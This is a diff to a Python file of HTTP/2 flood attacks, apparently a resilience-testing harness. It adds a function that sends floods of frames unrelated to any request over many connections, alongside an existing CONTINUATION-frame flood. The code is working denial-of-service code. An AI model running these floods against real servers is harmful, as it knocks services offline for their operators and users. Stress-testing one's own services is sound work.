@@ -8,6 +8,7 @@ short it is, each of its steps is tried once.
 import contextlib
 import dataclasses
 import gzip
+import itertools
 import os
 import random
 import select
@@ -232,6 +233,21 @@ def a_header_without_end(target, deadline):
     begun = b"\x00\x01x" + http2_client.integer(16 << 20)
     first = frame(HEADERS, 0, 1, request_headers(SERVICE + "Get") + begun)
     return flood(target.data, deadline, first, frame(CONTINUATION, 0, 1, b"y" * MAX_FRAME) * 4)
+
+
+@attack(ended("data", "frames"))
+def frames_of_no_request(target, deadline):
+    """Each connection with one kind of them, from the worst on."""
+    sent = connections = 0
+    kinds = itertools.cycle(reversed(http2_client.FRAMES_OF_NO_REQUEST.values()))
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            one, chunk = connection(target.data), next(kinds) * 1_000
+            connections += 1
+            for _ in until(deadline):
+                one.send(chunk)
+                sent += 1_000
+    return Load(sent, f"{sent:,} frames over {connections:,} connections")
 
 
 @attack(ended("data", "unfinished"))
